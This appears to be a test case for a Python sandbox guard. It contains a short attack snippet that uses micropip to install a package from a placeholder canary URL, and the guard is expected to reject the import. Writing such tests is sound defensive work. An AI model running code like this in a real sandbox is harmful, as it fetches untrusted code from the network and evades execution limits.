# attack: micropip to install a package from the network
# expect: precheck:import-not-allowed
# unguarded: python
import micropip
micropip.install("CANARY_URL")
